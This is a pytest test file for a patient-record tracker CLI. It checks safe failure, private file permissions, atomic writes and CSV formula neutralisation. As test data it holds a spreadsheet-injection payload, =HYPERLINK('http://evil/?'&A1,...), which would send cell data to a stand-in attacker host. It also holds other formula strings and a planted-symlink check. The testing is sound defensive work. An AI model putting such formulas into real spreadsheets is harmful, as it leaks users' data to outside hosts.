"""Issue 15, records that can be trusted: empty database settings, refusals that change nothing,
CSV cells that never run as formulas, outputs written whole and private, and flags marked seen
only once shown."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import pytest

from tests.conftest import EXAMPLES, REPO, Cli, subprocess_env


def _tracker(*args: str, env: dict[str, str] | None = None,
             cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "tracker", *args], capture_output=True, text=True,
                          env=subprocess_env(**(env or {})), cwd=cwd or REPO, timeout=120, check=False)


# ----------------------------------------------------------------------------- item 9: --db '' and TRACKER_DB=''


@pytest.mark.parametrize(("args", "env"), [(["--db", ""], {}), (["--db", "  "], {}), ([], {"TRACKER_DB": ""})],
                         ids=["--db ''", "--db blank", "TRACKER_DB=''"])
def test_an_empty_database_setting_is_refused_not_replaced_by_the_default(
        args: list[str], env: dict[str, str], tmp_path: Path) -> None:
    """An empty --db or TRACKER_DB is one sentence and exit 1; the default database is not made."""
    r = _tracker(*args, "patient", "list", env={"TRACKER_HOME": str(tmp_path), **env})
    assert r.returncode == 1, r.stderr
    assert r.stderr.strip() == ("Error: --db or TRACKER_DB is empty; give a database file path or URL, or unset "
                                "TRACKER_DB to use the default database")
    assert r.stdout == "" and os.listdir(tmp_path) == []


# ----------------------------------------------------------------------------- item 5: CSV formula injection

_EVIL = '=HYPERLINK("http://evil/?"&A1,"x")'


@pytest.mark.parametrize("text", [_EVIL, "+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_a_cell_a_spreadsheet_would_run_gets_a_quote(text: str) -> None:
    from tracker.jsonio.csvout import csv_cell

    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-3, Decimal("-1.5"), 0.25, "-3.5", "+2", "12", "SYN-001", "a=b", "", True])
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    from tracker.jsonio.csvout import csv_cell

    assert csv_cell(value) == value
    assert csv_cell(None) == ""


def _cells(out: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(out)) for c in row]


def test_every_csv_the_tool_writes_neutralises_formulas(sqlite_url: str) -> None:
    """A formula typed into any text (notes, reasons, symptoms) is a quoted text cell in every CSV
    output: export, history, audit, patient list, flags, flag history, schedule, worklist,
    measures, protocols; numbers stay numbers."""
    cli = Cli(sqlite_url)
    day = ["--as-of", "2026-11-22"]
    assert cli("import", str(EXAMPLES / "syn-growing.json"), *day).exit_code == 0
    r = cli("log", "visit", "SYN-GROWING", "--date", "2026-11-01", "--notes", _EVIL, *day)
    assert r.exit_code == 0, r.output
    r = cli("flag", "ack", "SYN-GROWING", "growth.absolute", "--reason", "@SUM(1+1)*cmd", *day)
    assert r.exit_code == 0, r.output
    outputs = {}
    for args in (["export", "SYN-GROWING", "--format", "csv"], ["history", "SYN-GROWING"], ["audit", "SYN-GROWING"],
                 ["patient", "list"], ["flags", "SYN-GROWING", *day], ["flags", "SYN-GROWING", "--history"],
                 ["schedule", "SYN-GROWING", *day], ["worklist", *day], ["measures", "SYN-GROWING"],
                 ["protocol", "list"], ["protocol", "show", "pnet-small-nf"]):
        fmt = [] if args[0] == "export" else ["--format", "csv"]
        r = cli(*args, *fmt)
        assert r.exit_code == 0, (args, r.output)
        outputs[args[0] + " " + args[1]] = r.stdout
        for cell in _cells(r.stdout):
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (args, cell)
            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit(), (args, cell)
    assert "'" + _EVIL in _cells(outputs["export SYN-GROWING"])
    assert "'@SUM(1+1)*cmd" in _cells(outputs["audit SYN-GROWING"])
    exported = list(csv.DictReader(io.StringIO(outputs["export SYN-GROWING"])))
    assert any(row["item"] == "chromogranin_a" and row["value"] == "130" for row in exported)  # numbers stay numbers


# ----------------------------------------------------------------------------- item 4: files written whole and private


def _umask0() -> None:
    os.umask(0)


def _run(db: Path, *args: str, limit: int | None = None) -> subprocess.CompletedProcess[str]:
    """`tracker --db db ...` in a child with umask 000 (and, given `limit`, a file-size limit: any
    write past `limit` bytes fails as on a full disk)."""
    def setup() -> None:
        os.umask(0)
        if limit is not None:
            import resource

            resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return subprocess.run([sys.executable, "-m", "tracker", "--db", str(db), *args], capture_output=True,
                          text=True, env=subprocess_env(), cwd=REPO, timeout=180, check=False, preexec_fn=setup)


def test_every_output_is_readable_by_its_owner_only_even_under_umask_000(tmp_path: Path) -> None:
    """Exports, reports (PDF and HTML), plots, synthetic cohorts and backups are 0600."""
    db_file = tmp_path / "t.db"
    day = ["--as-of", "2026-11-22"]
    assert _run(db_file, "import", str(EXAMPLES / "syn-growing.json"), *day).returncode == 0
    outputs = {"e.json": ["export", "SYN-GROWING", "--out"], "r.pdf": ["report", "SYN-GROWING", *day, "--out"],
               "r.html": ["report", "SYN-GROWING", *day, "--out"], "p.png": ["plot", "SYN-GROWING", *day, "--out"],
               "c.json": ["synth", "--patients", "2", "--out"], "b.db": ["db", "backup"]}
    for name, args in outputs.items():
        r = _run(db_file, *args, str(tmp_path / name))
        assert r.returncode == 0, (name, r.stderr)
        assert (tmp_path / name).stat().st_mode & 0o777 == 0o600, name
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


@pytest.mark.parametrize("name", ["r.pdf", "r.html", "p.png"])
def test_a_write_that_fails_half_way_leaves_the_previous_file_whole(name: str, tmp_path: Path) -> None:
    """A report or plot that cannot be written whole (here: a file-size limit, as a full disk)
    is one sentence, and the previous file stays exactly as it was, with no temporary file left."""
    db_file = tmp_path / "t.db"
    day = ["--as-of", "2026-11-22"]
    command = ["plot"] if name.endswith("png") else ["report"]
    assert _run(db_file, "import", str(EXAMPLES / "syn-growing.json"), *day).returncode == 0
    target = tmp_path / name
    for _ in range(2):  # the second run has no new flag to mark seen: the database is not written
        r = _run(db_file, *command, "SYN-GROWING", *day, "--out", str(target))
        assert r.returncode == 0, r.stderr
    before = target.read_bytes()
    assert len(before) > 50_000
    r = _run(db_file, *command, "SYN-GROWING", *day, "--out", str(target), limit=40_000)  # SQLite needs 32 K
    assert r.returncode == 1 and "cannot write" in r.stderr and "Traceback" not in r.stderr, r.stderr
    assert target.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_write_private_keeps_the_old_file_when_the_writer_fails(tmp_path: Path) -> None:
    from tracker.private import write_private

    target = tmp_path / "out.txt"
    write_private(target, b"old")

    def half(f: object) -> None:
        f.write(b"half")  # type: ignore[attr-defined]
        raise OSError(28, "No space left on device")

    with pytest.raises(OSError):
        write_private(target, half)
    assert target.read_bytes() == b"old" and os.listdir(tmp_path) == ["out.txt"]


def test_a_backup_follows_no_symlink_and_cleans_up_a_killed_backup(tmp_path: Path) -> None:
    """A symlink planted at the name a backup once used for its partial copy is not followed (the
    file it points to is untouched); the partial copy of a killed backup, with its journal, is
    removed by the next backup; no -wal, -shm or -journal file is left."""
    db_file = tmp_path / "t.db"
    assert _run(db_file, "import", str(EXAMPLES / "syn-growing.json"), "--as-of", "2026-11-22").returncode == 0
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    (tmp_path / ".b.db.partial").symlink_to(victim)
    (tmp_path / ".b.db.k1ll3d.partial").write_bytes(b"half a copy")
    (tmp_path / ".b.db.k1ll3d.partial-journal").write_bytes(b"journal")
    r = _run(db_file, "db", "backup", str(tmp_path / "b.db"))
    assert r.returncode == 0, r.stderr
    assert victim.read_text() == "precious"
    left = sorted(p.name for p in tmp_path.iterdir())
    assert ".b.db.k1ll3d.partial" not in left and ".b.db.k1ll3d.partial-journal" not in left
    assert not [n for n in left if n.startswith("b.db") and n != "b.db"]


# ----------------------------------------------------------------------------- item 8: refusing changes nothing


def _rollback_journal_db(tmp_path: Path) -> Path:
    """A tracker database with one patient whose file uses a rollback journal (not WAL)."""
    import sqlite3

    db_file = tmp_path / "t.db"
    assert _run(db_file, "import", str(EXAMPLES / "syn-growing.json"), "--as-of", "2026-11-22").returncode == 0
    con = sqlite3.connect(db_file, isolation_level=None)
    assert con.execute("PRAGMA journal_mode=DELETE").fetchone()[0] == "delete"
    con.close()
    return db_file


def _files(tmp_path: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in tmp_path.iterdir() if p.name.startswith("t.db")}


@pytest.mark.parametrize("args", [["patient", "list"], ["history", "SYN-GROWING"], ["export", "--all"],
                                  ["audit"], ["db", "check"]])
def test_a_read_only_command_leaves_a_rollback_journal_file_byte_identical(args: list[str], tmp_path: Path) -> None:
    db_file = _rollback_journal_db(tmp_path)
    before = _files(tmp_path)
    r = _run(db_file, *args)
    assert r.returncode == 0, r.stderr
    assert _files(tmp_path) == before


@pytest.mark.parametrize("args", [["patient", "list"], ["db", "check"],
                                  ["log", "visit", "SYN-GROWING", "--date", "2026-11-01"]])
def test_refusing_a_newer_schema_leaves_the_file_byte_identical(args: list[str], tmp_path: Path) -> None:
    """A database written by a newer tracker is refused (exit 1) without touching the file: not
    switched to WAL, no side file left."""
    import sqlite3

    db_file = _rollback_journal_db(tmp_path)
    con = sqlite3.connect(db_file, isolation_level=None)
    con.execute("UPDATE alembic_version SET version_num = 'zzzz_future'")
    con.close()
    before = _files(tmp_path)
    r = _run(db_file, *args)
    assert r.returncode == 1 and "newer" in r.stdout + r.stderr, r.stdout + r.stderr
    assert _files(tmp_path) == before


def test_the_first_write_switches_the_file_to_wal(tmp_path: Path) -> None:
    import sqlite3

    db_file = _rollback_journal_db(tmp_path)
    assert _run(db_file, "log", "visit", "SYN-GROWING", "--date", "2026-11-01").returncode == 0
    con = sqlite3.connect(db_file)
    assert con.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    con.close()


# ----------------------------------------------------------------------------- item 7: seen only when shown


@pytest.mark.parametrize("command", [["worklist", "--format", "csv"], ["flags", "--all", "--format", "csv"],
                                     ["flags", "--all"]])
def test_flags_printed_to_a_full_disk_stay_new(command: list[str], tmp_path: Path) -> None:
    """A worklist (or flag list) that could not be written marks nothing seen: one sentence,
    exit 1, and the next worklist still shows the tumour-board flags as new; once shown, they
    are not new any more."""
    import json

    db_file = tmp_path / "t.db"
    day = ["--as-of", "2026-11-22"]
    assert _run(db_file, "import", str(EXAMPLES / "syn-growing.json"), *day).returncode == 0
    with open("/dev/full", "w") as full:
        r = subprocess.run([sys.executable, "-m", "tracker", "--db", str(db_file), *command, *day], stdout=full,
                           stderr=subprocess.PIPE, text=True, env=subprocess_env(), cwd=REPO, timeout=180,
                           check=False)
    assert r.returncode == 1, r.stderr
    assert r.stderr.startswith("Error: cannot write the ") and "stay marked new" in r.stderr, r.stderr
    assert "Traceback" not in r.stderr and "Exception ignored" not in r.stderr and r.stderr.count("\n") == 1
    board = [row for row in json.loads(_run(db_file, "worklist", *day, "--format", "json").stdout)
             if row["status"] == "tumour_board"]
    assert board and all(row["new"] for row in board)
    again = json.loads(_run(db_file, "worklist", *day, "--format", "json").stdout)
    assert not any(row["new"] for row in again if row["status"] == "tumour_board")


def test_a_report_that_cannot_be_written_marks_nothing_seen(tmp_path: Path) -> None:
    """The report marks its flags seen (in the flag log) only once the file is written whole."""
    import json

    db_file = tmp_path / "t.db"
    day = ["--as-of", "2026-11-22"]
    assert _run(db_file, "import", str(EXAMPLES / "syn-growing.json"), *day).returncode == 0

    def logged() -> list[object]:
        return json.loads(_run(db_file, "flags", "--all", "--history", "--format", "json").stdout)  # type: ignore

    r = _run(db_file, "report", "SYN-GROWING", *day, "--out", str(tmp_path / "r.pdf"), limit=40_000)
    assert r.returncode == 1 and "stay marked new" in r.stderr, r.stderr
    assert logged() == []
    assert _run(db_file, "report", "SYN-GROWING", *day, "--out", str(tmp_path / "r.pdf")).returncode == 0
    assert logged()


# ----------------------------------------------------------------------------- item 2: no tracebacks, ever


def _dump(db_file: Path) -> list[str]:
    import sqlite3

    con = sqlite3.connect(db_file)
    try:
        return list(con.iterdump())
    finally:
        con.close()


@pytest.mark.parametrize("text", ['"\\ud800"', '"a\\u0000b"', '"x\\udfff"', '"a\x00b"'],
                         ids=["lone high surrogate", "NUL escape", "lone low surrogate", "literal NUL"])
def test_a_file_with_unstorable_text_is_refused_on_every_database(text: str, cli: Cli, tmp_path: Path) -> None:
    """PostgreSQL refuses NUL and UTF-8 a lone surrogate: refused at entry on SQLite too (so the
    move to the server never fails), by line, without repeating the text."""
    import json

    doc = json.loads((EXAMPLES / "syn-growing.json").read_text(encoding="utf-8"))
    doc["visits"][0]["notes"] = "PLACEHOLDER"
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps(doc, indent=1).replace('"PLACEHOLDER"', text), encoding="utf-8")
    r = cli("import", str(bad), "--as-of", "2026-11-22")
    assert r.exit_code == 1 and "Traceback" not in r.output
    assert r.stderr.startswith("Error: FILE: bad.json line ") and "cannot be stored" in r.stderr
    assert r.stderr.count("\n") == 1
    assert cli("patient", "list", "--format", "json").stdout.strip() == "[]"
    paired = tmp_path / "paired.json"  # a whole surrogate pair (an emoji) is text like any other
    paired.write_text(json.dumps(doc).replace('"PLACEHOLDER"', '"\\ud83d\\ude00"'), encoding="utf-8")
    assert cli("import", str(paired), "--as-of", "2026-11-22").exit_code == 0


def test_export_and_import_round_trip_on_every_database(cli: Cli, db_factory, tmp_path: Path) -> None:
    assert cli("import", str(EXAMPLES / "syn-growing.json"), "--as-of", "2026-11-22").exit_code == 0
    assert cli("log", "visit", "SYN-GROWING", "--date", "2026-11-01", "--notes", "naïve µ ≥ 😀",
               "--as-of", "2026-11-22").exit_code == 0
    out = tmp_path / "all.json"
    assert cli("export", "--all", "--out", str(out)).exit_code == 0
    other = Cli(db_factory())
    assert other("import", str(out), "--as-of", "2026-11-22").exit_code == 0
    assert other("export", "--all").stdout == cli("export", "--all").stdout


@pytest.mark.parametrize("where", ["--notes", "--user", "label", "TRACKER_USER"])
def test_bytes_that_are_not_utf8_on_the_command_line_are_one_sentence(where: str, tmp_path: Path) -> None:
    db_file = tmp_path / "t.db"
    assert _run(db_file, "import", str(EXAMPLES / "syn-growing.json"), "--as-of", "2026-11-22").returncode == 0
    before = _dump(db_file)
    bad = b"caf\xe9"
    args: list[bytes | str] = [sys.executable, "-m", "tracker", "--db", str(db_file)]
    env: dict[bytes, bytes] = {k.encode(): v.encode() for k, v in subprocess_env().items()}
    if where == "--user":
        args += [b"--user", bad]
    if where == "TRACKER_USER":
        env[b"TRACKER_USER"] = bad
    args += ["log", "visit", bad if where == "label" else "SYN-GROWING", "--date", "2026-11-01"]
    if where == "--notes":
        args += ["--notes", bad]
    r = subprocess.run([a if isinstance(a, bytes) else a.encode() for a in args], capture_output=True,
                       env=env, cwd=REPO, timeout=120, check=False)
    err = r.stderr.decode()
    assert r.returncode == 1 and "Traceback" not in err and err.count("\n") == 1, err
    assert "not UTF-8 text" in err and "caf" not in err
    assert _dump(db_file) == before


def test_amend_set_values_that_crashed_are_one_sentence_or_plain_text(tmp_path: Path) -> None:
    db_file = tmp_path / "t.db"
    day = ["--as-of", "2026-11-22"]
    assert _run(db_file, "import", str(EXAMPLES / "syn-growing.json"), *day).returncode == 0
    assert _run(db_file, "log", "visit", "SYN-GROWING", "--date", "2026-11-01", "--symptom", "flushing",
                *day).returncode == 0
    import json

    rows = json.loads(_run(db_file, "history", "SYN-GROWING", "--format", "json").stdout)
    vid = str(max(r["id"] for r in rows if r["kind"] == "visit"))
    before = _dump(db_file)
    r = _run(db_file, "amend", "SYN-GROWING", "visit", vid, "--set", "symptoms.a.b=1", "--reason", "x", *day)
    assert r.returncode == 1 and r.stderr == "Error: --set: 'symptoms.a.b' is not a field of this record\n"
    assert _dump(db_file) == before
    r = _run(db_file, "amend", "SYN-GROWING", "visit", vid, "--set", "notes=" + "[" * 60_000, "--reason", "x", *day)
    assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr


def test_an_upgrade_on_a_nearly_full_disk_is_one_sentence_and_leaves_no_false_backup(tmp_path: Path) -> None:
    """The backup copy an upgrade makes first cannot be written: one sentence, exit 1, the
    database as it was, and no 0-byte .bak that looks like a backup."""
    from alembic import command

    from tracker import db

    db_file = tmp_path / "t.db"
    for f in sorted(EXAMPLES.glob("syn-*.json")):
        assert _run(db_file, "import", str(f), "--as-of", "2026-11-22").returncode == 0
    engine = db.make_engine(f"sqlite:///{db_file}")
    with engine.begin() as conn:
        command.downgrade(db._alembic_config(conn), "0004")
    engine.dispose()
    assert db_file.stat().st_size > 60_000
    before = _dump(db_file)
    r = _run(db_file, "patient", "list", limit=40_000)
    assert r.returncode == 1 and "Traceback" not in r.stderr and r.stderr.count("\n") == 1, r.stderr
    assert r.stderr.startswith("Error: cannot make the backup copy this upgrade needs")
    assert not list(tmp_path.glob("*.bak*")) and _dump(db_file) == before


# ----------------------------------------------------------------------------- item 3: what messages repeat


def test_a_huge_field_of_a_file_is_quoted_cut_to_80_characters(cli: Cli, tmp_path: Path) -> None:
    """A 5 MB label in a file made a 5 MB message: a message quotes at most 80 characters."""
    import json

    from tracker.text import quoted

    doc = json.loads((EXAMPLES / "syn-growing.json").read_text(encoding="utf-8"))
    doc["patient"]["label"] = "A" * 5_000_000
    big = tmp_path / "big.json"
    big.write_text(json.dumps(doc), encoding="utf-8")
    r = cli("import", str(big), "--as-of", "2026-11-22")
    assert r.exit_code == 1 and "patient.label" in r.stderr and "is too long" in r.stderr
    assert len(r.stderr) < 200 and r.stderr.count("\n") == 1
    assert len(quoted("x" * 1000)) == 80 and quoted("short") == "'short'" and len(quoted(list(range(99)))) == 80
